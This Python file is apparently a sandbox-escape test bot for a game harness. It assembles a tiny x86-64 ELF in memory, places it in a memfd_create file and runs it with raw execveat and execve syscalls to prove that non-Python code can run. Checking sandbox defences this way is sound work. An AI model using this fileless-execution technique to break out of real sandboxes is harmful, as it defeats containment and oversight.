"""Hostile Tanks bot: memfd_create + execve through ctypes.

The bot builds a tiny foreign x86-64 program in memory (it prints a proof
and exits with status 42), puts it in an anonymous file from
memfd_create(2) and runs it with execveat(AT_EMPTY_PATH) and execve of
/proc/self/fd/N, in a child. Running code that is not Python is an escape
of the sandbox's exec rule.
"""
# @ESCAPE_PRELUDE@


import ctypes
import struct


def tiny_elf():
    msg = b'ESCAPE-EVIDENCE foreign code ran from a memfd\n'
    code = (b'\xb8\x01\x00\x00\x00'            # mov eax, 1 (write)
            b'\xbf\x02\x00\x00\x00'            # mov edi, 2
            b'\x48\x8d\x35\x13\x00\x00\x00'    # lea rsi, [rip+19]
            + b'\xba' + struct.pack('<I', len(msg)) +  # mov edx, len
            b'\x0f\x05'                        # syscall
            b'\xb8\xe7\x00\x00\x00'            # mov eax, 231 (exit_group)
            b'\xbf\x2a\x00\x00\x00'            # mov edi, 42
            b'\x0f\x05') + msg                 # syscall
    base, off = 0x400000, 64 + 56
    size = off + len(code)
    ehdr = (b'\x7fELF\x02\x01\x01' + b'\0' * 9 +
            struct.pack('<HHIQQQIHHHHHH', 2, 0x3e, 1, base + off, 64, 0, 0, 64, 56, 1, 0, 0, 0))
    phdr = struct.pack('<IIQQQQQQ', 1, 5, 0, base, base, size, size, 0x1000)
    return ehdr + phdr + code


def attack():
    name_process()
    lib = libc()
    fd = lib.syscall(319, b'cf', 0)  # memfd_create, no CLOEXEC so that exec sees it
    if fd < 0:
        note('memfd_create: errno %d' % ctypes.get_errno())
        return
    os.write(fd, tiny_elf())
    note('memfd_create gave fd %d' % fd)
    argv = (ctypes.c_char_p * 2)(b'x', None)
    envp = (ctypes.c_char_p * 1)(None)
    try:
        pid = os.fork()
    except OSError as e:
        note('fork: %s; exec in place' % e)
        pid = 0
        in_place = True
    else:
        in_place = False
    if pid == 0:
        lib.syscall(322, fd, b'', argv, envp, 0x1000)  # execveat(fd, "", AT_EMPTY_PATH)
        lib.syscall(59, ('/proc/self/fd/%d' % fd).encode(), argv, envp)  # execve
        if not in_place:
            os._exit(7)
        note('execveat and execve failed: errno %d' % ctypes.get_errno())
        return
    _, status = os.waitpid(pid, 0)
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 42:
        evidence('foreign code from a memfd ran (exit status 42)')
    else:
        note('child status %#x' % status)


# @ESCAPE_ATTACK_MAIN@
